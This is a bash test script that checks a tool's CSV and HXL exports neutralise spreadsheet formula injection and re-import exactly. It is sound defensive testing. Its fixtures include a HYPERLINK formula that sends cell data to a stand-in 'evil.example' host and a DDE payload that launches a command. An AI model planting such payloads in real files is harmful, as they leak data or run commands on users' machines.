#!/usr/bin/env bash
# formula.sh - CSV and HXL exports are safe to open in a spreadsheet, and
# re-import to the exact text (TAP).  Contact and incident fields hold
# =HYPERLINK(...), @SUM(...), +1, -1, a DDE payload, a real leading quote
# and a quote before a formula; no exported cell may begin with = + - @
# TAB CR or LF, and importing the export (into the same store and into a
# fresh one) must give back every text byte for byte.
set -u
BIN=${CIMIC_BIN:?CIMIC_BIN not set}
T=$(mktemp -d "${TMPDIR:-/tmp}/cimic-e2e-XXXXXX")
trap 'rm -rf "$T"' EXIT
export CIMIC_PASSPHRASE='correct horse battery staple'
n=0; fails=0
ok() { n=$((n+1)); if [ "$1" -eq 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; fails=$((fails+1)); fi; }
is() { n=$((n+1)); if [ "$1" = "$2" ]; then echo "ok $n - $3"; else echo "not ok $n - $3"; echo "#   got '$1', expected '$2'"; fails=$((fails+1)); fi; }
c() { local s=$1; shift; "$BIN" --store "$T/$s" "$@"; }
for s in a b h; do c $s init --unit "Unit $s" --kdf-ops 1 --kdf-mem 8192 >/dev/null; done

c a contact add --name '=HYPERLINK("http://evil.example/?"&A1,"Click")' --org '@SUM(A1:A9)' \
	--position '+1' --phone '+380 67 123 4567' --notes "'real leading quote" --tag '-1' >/dev/null
c a contact add --name "'=quoted formula" --org "''@twice" --position '-2+3+cmd|'"' /C calc'"'!A0' \
	--notes $'\tstarts with a tab' --address "it's fine" >/dev/null
c a contact add --name 'Plain Name' --org "'" --notes '=' >/dev/null
c a incident add --title '=1+1' --description '@cmd' --settlement '-Ізюм' --location '49.2,37.3' >/dev/null
c a incident add --title "'@x" --description "'" --settlement "+" --location '-33.9,-70.6' >/dev/null

# first_chars FILE: fails (and names them) when cells of the CSV file begin as formulas
first_chars() { python3 - "$1" <<'EOF'
import csv, re, sys
bad = []
number = re.compile(r'-[0-9]+(\.[0-9]+)?')   # a negative coordinate is a number, not a formula
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    for row in csv.reader(f):
        for cell in row:
            if cell[:1] in ('=', '+', '-', '@', '\t', '\r', '\n') and not number.fullmatch(cell):
                bad.append(cell)
for b in bad:
    print("# starts as a formula: %r" % b)
sys.exit(1 if bad else 0)
EOF
}
texts() {   # texts STORE: every text field of every record, sorted, as JSON
	{ c "$1" contact list --all --json; c "$1" incident list --all --json; } | python3 -c '
import json, sys
dec = json.JSONDecoder(); s = sys.stdin.read(); rows = []; i = 0
while i < len(s):
    if s[i].isspace(): i += 1; continue
    d, i = dec.raw_decode(s, i); rows += d
keep = ("id","name","org","position","phone","notes","tag","address","title","description","settlement","location")
print(json.dumps(sorted([{k: r.get(k) for k in keep} for r in rows], key=lambda r: r["id"]), ensure_ascii=False))'
}

for fmt in csv hxl; do
	c a export --format $fmt --what contacts -o "$T/contacts.$fmt"
	c a export --format $fmt --what incidents -o "$T/incidents.$fmt"
	first_chars "$T/contacts.$fmt" && first_chars "$T/incidents.$fmt"
	ok $? "$fmt: no exported cell begins with = + - @ TAB CR or LF (but a negative coordinate)"
	grep -qF "'=HYPERLINK(" "$T/contacts.$fmt" && grep -qF "'@SUM(A1:A9)" "$T/contacts.$fmt" &&
		grep -qF "''=quoted formula" "$T/contacts.$fmt" && grep -qF "'real leading quote" "$T/contacts.$fmt"
	ok $? "$fmt: formulas carry the apostrophe OWASP describes; a quote before one gets a second"
	grep -q ',-33\.9[0-9]*,-70\.6' "$T/incidents.$fmt"
	ok $? "$fmt: a negative latitude or longitude stays a number"
	out=$(c a import --format $fmt --what contacts "$T/contacts.$fmt"; c a import --format $fmt --what incidents "$T/incidents.$fmt")
	is "$(echo "$out" | grep " unchanged" | sed "s/ unchanged.*/ unchanged/" | tr "\n" " ")" "0 created, 0 updated, 3 unchanged 0 created, 0 updated, 2 unchanged " \
		"$fmt: re-importing the export into the same store changes nothing"
done
c b import --format csv --what contacts "$T/contacts.csv" >/dev/null && c b import --format csv --what incidents "$T/incidents.csv" >/dev/null
is "$(texts b)" "$(texts a)" "csv: a fresh store importing the export holds the exact text"
c h import --format hxl --what contacts "$T/contacts.hxl" >/dev/null && c h import --format hxl --what incidents "$T/incidents.hxl" >/dev/null
is "$(texts h)" "$(texts a)" "hxl: the same through HXL"
echo "1..$n"
[ $fails -eq 0 ]
